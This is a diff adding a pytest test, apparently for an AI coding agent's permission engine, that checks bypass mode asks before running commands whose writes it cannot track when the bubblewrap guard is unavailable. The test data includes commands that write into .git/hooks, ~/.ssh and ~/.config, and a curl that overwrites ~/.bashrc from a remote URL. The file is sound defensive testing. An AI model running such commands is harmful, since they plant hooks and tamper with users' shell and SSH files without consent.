@@ -199,3 +199,29 @@ async def test_a_recursive_read_over_a_denied_file_runs_unasked_where_the_guard_
     os.unlink(root / "innocent.txt")
     engine.guard_available = lambda: False
     assert check(engine, "Bash", command="grep -rn TODO .").behavior == "ask"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git clone https://example.com/x.git .git/hooks",
+        "tar -xf a.tar -C ~/.config",
+        "unzip a.zip -d .git/hooks",
+        "rsync -a src/ ~/.ssh/",
+        "curl -o ~/.bashrc https://example.com/x",
+        "mytool --out ~/.bashrc",
+        "make",
+    ],
+)
+def test_bypass_mode_without_the_guard_asks_for_a_program_it_cannot_follow(tmp_path: Path, command: str) -> None:
+    """bypassPermissions promises that the protected files are never written unasked. Under the guard the mounts
+    keep that promise for any program; where the guard cannot run, a program whose writes agentui cannot follow
+    (or a subcommand, or an option it does not know) asks, as an unparsed command already did."""
+    engine = opened(tmp_path, trusted=True, own={}, project_block={}).engine
+    engine.mode = "bypassPermissions"
+    assert check(engine, "Bash", command=command).behavior == "allow"  # (the guard holds it)
+    engine.guard_available = lambda: False
+    found = check(engine, "Bash", command=command)
+    assert found.behavior == "ask" and "bubblewrap cannot guard" in found.reason, found.reason
+    for understood in ("ls", "git status", "cat README.md", "rm -rf build", "mkdir -p out"):
+        assert check(engine, "Bash", command=understood).behavior == "allow", understood
